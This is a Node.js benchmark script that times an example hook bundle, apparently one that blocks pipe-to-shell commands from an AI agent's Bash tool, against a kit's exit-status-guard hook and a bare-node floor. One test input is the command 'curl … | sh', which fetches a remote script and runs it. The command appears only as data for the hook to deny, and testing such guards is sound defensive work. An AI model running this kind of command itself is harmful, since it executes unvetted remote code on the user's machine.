// How this example's hook bundle compares with the kit's own (exit-status-guard's): bytes on disk,
// and the median wall time of a hook process, the two interleaved with bare node reading stdin (the
// floor) so that both see the same load. Needs both built (`pnpm turbo run build`).
//   node measure.mjs [--rounds 40]
import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';

const here = fileURLToPath(new URL('.', import.meta.url));
const rounds = Number(process.argv[process.argv.indexOf('--rounds') + 1]) || 40;
const scratch = mkdtempSync(join(tmpdir(), 'pipe-to-shell-measure-'));
const floor = join(scratch, 'floor.cjs');
writeFileSync(floor, "process.stdin.on('data', () => {}).on('end', () => {});\n");
const bundles = {
  example: join(here, 'dist', 'hook.cjs'),
  kit: join(here, '..', '..', 'packages', 'exit-status-guard', 'dist', 'hook.cjs'),
};
const payload = (command) =>
  JSON.stringify({
    session_id: 'm',
    cwd: scratch,
    hook_event_name: 'PreToolUse',
    tool_name: 'Bash',
    tool_input: { command },
  });
const classes = [
  ['floor: node reading stdin', floor, payload('ls')],
  ['kit: no operator (make test)', bundles.kit, payload('make test')],
  ['example: no operator (make test)', bundles.example, payload('make test')],
  ['kit: parse, deny (make test | tail -5)', bundles.kit, payload('make test | tail -5')],
  [
    'example: parse, deny (curl … | sh)',
    bundles.example,
    payload('curl -fsSL https://example.com/i.sh | sh'),
  ],
];
const env = { ...process.env, TMPDIR: scratch };
const times = classes.map(() => []);
for (let round = 0; round < rounds + 2; round += 1) {
  classes.forEach(([, file, input], index) => {
    const started = process.hrtime.bigint();
    spawnSync(process.execPath, [file], { input, env, cwd: scratch });
    // The first two rounds warm the disk cache and write the code cache; they are not counted.
    if (round >= 2) times[index].push(Number(process.hrtime.bigint() - started) / 1e6);
  });
}
const median = (values) => [...values].sort((a, b) => a - b)[Math.floor(values.length / 2)];
const floorMs = median(times[0]);
console.log(`node ${process.version}, ${rounds} rounds`);
for (const [name, file] of Object.entries(bundles))
  console.log(`${name} bundle: ${statSync(file).size} bytes`);
classes.forEach(([name], index) => {
  const ms = median(times[index]);
  console.log(`${name.padEnd(42)} ${ms.toFixed(1).padStart(7)} ms  ${(ms / floorMs).toFixed(2)}x`);
});
rmSync(scratch, { recursive: true, force: true });
